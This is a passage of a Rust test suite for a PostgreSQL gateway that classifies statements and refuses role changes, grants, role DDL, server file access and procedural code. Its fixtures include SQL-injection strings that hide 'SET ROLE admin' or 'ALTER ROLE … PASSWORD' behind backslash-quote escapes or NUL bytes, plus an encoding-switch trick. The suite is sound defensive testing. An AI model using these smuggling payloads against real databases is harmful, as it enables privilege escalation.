        ("SELECT 'x\\'; SET ROLE admin; --'", "role_change: SET ROLE"),
        ("SELECT 'a\\'; DO $$ BEGIN END $$; --'", "procedural: DO"),
        ("SELECT 'a\\'; ALTER ROLE CURRENT_USER PASSWORD 'p'; --'", "role_ddl: ALTER ROLE"),
    ];

    const UNPARSEABLE: &[(&str, &str)] = &[
        ("SELEC 1", "unparseable"),
        ("SELECT 1; SELEC 2", "unparseable"),
        ("SELECT 'unterminated", "unparseable"),
        ("SELECT 1; SET ROLE", "unparseable"),
        ("SELECT 1\0; SET ROLE admin", "unparseable"),
        ("/* unterminated comment", "unparseable"),
    ];

    const ALL: [&[(&str, &str)]; 8] =
        [PLAIN, ROLE_CHANGE, PRIVILEGE, ROLE_DDL, SERVER_ACCESS, PROCEDURAL, NEVER, UNPARSEABLE];

    #[test]
    fn plain_statements_pass() {
        check(PLAIN, Allowed::none());
    }

    #[test]
    fn statements_changing_the_role_are_refused() {
        check(ROLE_CHANGE, Allowed::none());
    }

    #[test]
    fn statements_changing_privileges_are_refused() {
        check(PRIVILEGE, Allowed::none());
    }

    #[test]
    fn statements_defining_roles_are_refused() {
        check(ROLE_DDL, Allowed::none());
    }

    #[test]
    fn statements_reaching_the_server_are_refused() {
        check(SERVER_ACCESS, Allowed::none());
    }

    #[test]
    fn code_the_gateway_cannot_read_is_refused() {
        check(PROCEDURAL, Allowed::none());
    }

    #[test]
    fn a_statement_hidden_from_either_reading_of_backslashes_is_seen() {
        check(EITHER_READING, Allowed::none());
    }

    #[test]
    fn texts_an_encoding_could_read_differently_are_found() {
        assert!(encoding_sensitive("SELECT E'\u{8868}\\''"));
        assert!(!encoding_sensitive("SELECT E'x\\'', '\u{8868}'"));
        assert!(!encoding_sensitive("SELECT 'caf\u{e9}'"));
    }

    #[test]
    fn changing_how_the_server_reads_text_is_never_allowed() {
        check(NEVER, StatementClass::ALL.into_iter().collect());
    }

    #[test]
    fn unparseable_text_is_refused() {
        check(UNPARSEABLE, StatementClass::ALL.into_iter().collect());
    }

    #[test]
    fn deep_expressions_are_read_in_plain_statements_only() {
        let sum = (0..60).map(|n| n.to_string()).collect::<Vec<_>>().join(" + ");
        check(
            &[(&format!("SELECT {sum}"), "ok 1"), (&format!("CREATE VIEW v AS SELECT {sum}"), "unparseable")],
            Allowed::none(),
        );
    }

    #[test]
    fn allowed_classes_pass_and_are_reported() {
        let role_change = [RoleChange].into_iter().collect();
        check(
            &[
                ("SET ROLE admin", "ok 1 +role_change"),
                ("SELECT 1; RESET ROLE; SELECT set_config('role', 'x', false)", "ok 3 +role_change"),
                ("GRANT SELECT ON t TO bob", "privilege: GRANT"),
            ],
            role_change,
        );
        check(&[("COPY t TO '/tmp/x'", "ok 1 +server_access")], [ServerAccess].into_iter().collect());
        // A statement needing two classes passes only with both.
        check(&[("ALTER ROLE r SET role = admin", "role_change: SET ROLE")], [RoleDdl].into_iter().collect());
        check(
            &[("ALTER ROLE r SET role = admin", "ok 1 +role_change +role_ddl")],
            [RoleDdl, RoleChange].into_iter().collect(),
        );
        check(
            &[("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'l', 's'", "procedural: CREATE FUNCTION … AS '…'")],
            [ServerAccess].into_iter().collect(),
        );
    }

    #[test]
    fn statements_are_cut_as_the_server_reads_them() {
        let guard = Guard::new();
        let statements = |sql| guard.check(sql, &Allowed::none()).map(|checked| checked.statements);
        assert_eq!(statements("  /* app */ SELECT 1 ;\n -- x\n SELECT 2 -- y"), Ok(vec!["SELECT 1", "SELECT 2 -- y"]));
        assert_eq!(
            statements("SET work_mem = '1MB' ; /* c */ SHOW work_mem"),
            Ok(vec!["SET work_mem = '1MB'", "SHOW work_mem"])
        );
        assert_eq!(
            statements("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END; SELECT 3;"),
            Ok(vec!["CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", "SELECT 3"])
        );
        assert_eq!(statements("SELECT 'é;' ; SELECT 2"), Ok(vec!["SELECT 'é;'", "SELECT 2"]));
    }

    /// The fast path must never let through what the full check would refuse, and must cut the
    /// same statements.
    #[test]
    fn the_fast_path_agrees_with_the_full_check() {
        let mut fast = 0;
        for (sql, _) in ALL.into_iter().flatten() {
            let Ok(Some(spans)) = plain(sql) else { continue };
            fast += 1;
            let tree = pg_query::parse(sql, 0).expect("the fast path only passes parseable text").protobuf;
            match judge(sql, &tree) {
                Verdict::Classified { spans: full, needs } => {
                    assert_eq!((spans, needs), (full, Vec::new()), "for {sql:?}");
                }
                Verdict::Refused(refusal) => {
                    panic!("the fast path passes {sql:?}, the full check refuses it: {refusal}")
                }
            }
        }
        assert!(fast >= 10, "only {fast} texts took the fast path");
    }

    /// The fast path relies on every watched name being an identifier token, never a keyword.
    #[test]
    fn watched_names_are_identifiers() {
        let names = WATCHED_FUNCTIONS.iter().map(|function| function.name).chain(["set_config", "pg_settings"]);
        for name in names {
            let tokens = pg_query::scan_tokens(name).expect("a name scans");
            assert_eq!(tokens.len(), 1, "{name}");
            assert_eq!(Token::try_from(tokens[0].token), Ok(Token::Ident), "{name}");
            assert!(names_watched(name) && names_watched(&format!("\"{name}\"")), "{name}");
        }
        assert!(!names_watched("pgbench_accounts") && !names_watched("dblinks"));
    }

    /// A statement nested where the typed walk does not look is refused, not missed: here a
    /// `SET ROLE` grafted into a `WHERE` clause, which no SQL text produces today.
    #[test]
    fn statements_the_walk_does_not_reach_are_refused() {
        let sql = "SELECT 1 WHERE true";
        let mut tree = pg_query::parse(sql, 0).expect("parses").protobuf;
        let set_role = pg_query::parse("SET ROLE admin", 0).expect("parses").protobuf.stmts.remove(0).stmt;
        let Some(NodeEnum::SelectStmt(select)) = tree.stmts[0].stmt.as_mut().and_then(|stmt| stmt.node.as_mut()) else {
            panic!("a SELECT")
        };
        select.where_clause = set_role;
        assert!(matches!(judge(sql, &tree), Verdict::Refused(Refusal::Uncheckable)));
    }

    #[test]
    fn refusals_read_well() {
        let refused = |sql| Guard::new().check(sql, &Allowed::none()).map(|_| ()).unwrap_err();
        let set_role = refused("SET ROLE admin");
        assert_eq!(
            set_role.to_string(),
            "`SET ROLE` changes the session's role (statement class `role_change`), which this role does not allow"
        );
        assert_eq!(set_role.sqlstate(), "42501");
        let typo = refused("SELEC 1");
        assert_eq!(
            typo.to_string(),
            "statement refused because it could not be parsed: syntax error at or near \"SELEC\""
        );
        assert_eq!(typo.sqlstate(), "42601");
        assert_eq!(
            refused("SET client_encoding = 'SJIS'").to_string(),
            "changing `client_encoding` would make the server read statements differently from the gateway's \
             check, so it is never allowed (only `UTF8` is accepted)"
        );
    }

    #[test]
    fn classes_are_named_for_the_catalog() {
        for class in StatementClass::ALL {
            assert_eq!(class.as_str().parse(), Ok(class));
        }
        let names = vec!["role_change".to_owned(), "procedural".to_owned()];
        let allowed = Allowed::parse(&names).expect("known classes");
        assert_eq!(allowed.iter().collect::<Vec<_>>(), [RoleChange, Procedural]);
        assert!(!allowed.contains(Privilege));
        assert_eq!(Allowed::parse::<&str>(&[]), Ok(Allowed::none()));
        let unknown = Allowed::parse(&["role_change", "superuser"]).unwrap_err();
        assert_eq!(
            unknown.to_string(),
            "unknown statement class `superuser`; \
             the classes are role_change, privilege, role_ddl, server_access and procedural"
        );
    }

    #[test]
    fn redaction_replaces_literals_and_never_returns_unparseable_text() {
        assert_eq!(redact("SELECT * FROM t WHERE password = 'hunter2'"), "SELECT * FROM t WHERE password = $1");
        assert_eq!(redact("ALTER ROLE bob PASSWORD 'hunter2'"), "ALTER ROLE bob PASSWORD $1");
        assert_eq!(redact("SELECT 1; SELECT 'a', 2"), "SELECT $1; SELECT $2, $3");
        for broken in ["SELEC 'hunter2'", "SELECT 'hunter2", "SELECT 'hunter2'\0"] {
            assert_eq!(redact(broken), UNPARSEABLE_TEXT, "for {broken:?}");
        }
    }

    #[test]
    fn texts_too_large_for_the_cache_are_checked_anyway() {
        let guard = Guard::with_cache_bytes(1);
        for _ in 0..2 {
            assert_eq!(
                guard.check("SET ROLE admin", &Allowed::none()).map(|_| ()),
                Err(Refusal::Forbidden { class: RoleChange, statement: "SET ROLE" })
            );
            assert_eq!(
                guard.check("SELECT 1", &Allowed::none()).map(|checked| checked.statements),
                Ok(vec!["SELECT 1"])
            );
        }
    }
}
